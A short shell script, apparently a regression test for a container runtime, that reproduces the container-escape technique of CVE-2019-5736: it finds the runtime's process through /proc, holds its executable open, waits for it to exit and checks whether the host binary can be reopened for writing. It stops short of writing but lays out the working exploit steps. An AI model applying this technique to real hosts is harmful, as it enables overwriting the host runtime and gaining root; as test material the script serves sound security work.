#!/bin/sh
# overwrite.sh: get hold of the program that made this container, and open it for
# writing.  (Nothing is written: that it can be opened is proof enough.)
#
# /proc/PID/exe is a link to the program that a process runs; like all such links
# it leads there even if no path does.  In 2019 a container could put its own code
# into the file of runc on the host, and root ran it at the next `docker exec`
# (CVE-2019-5736).  How does a program in a container get a process that runs
# runc?  It makes the command a script that begins with #!/proc/self/exe: runc
# executes the command, and the interpreter of that is runc.
#
# While a program runs its file cannot be opened for writing (ETXTBSY), so one
# opens it for reading, waits until nobody runs it any more, and opens that again,
# by /proc/self/fd.  (In the tests the program waits for /tmp/looked.)
#
# Usage: overwrite.sh, and then outside: cage exec NAME /tool
rm -f /tmp/looked
me=$(readlink /proc/self/exe)
own=$(readlink /proc/$$/exe)
echo ready
while :; do
    for p in /proc/[0-9]*; do
        exe=$(readlink "$p/exe" 2> /dev/null) || continue
        if [ "$exe" != "$me" ] && [ "$exe" != "$own" ] && [ "${exe#*sleep}" = "$exe" ] &&
            [ -n "$exe" ] && { true < "$p/exe"; } 2> /dev/null; then
            break 2
        fi
    done
done
exec 9< "$p/exe"
touch /tmp/looked
while [ -e "$p" ]; do sleep 0.05; done
if { true >> /proc/self/fd/9; } 2> /dev/null; then
    echo "open for writing: $exe"
else
    echo "refused: $exe"
fi
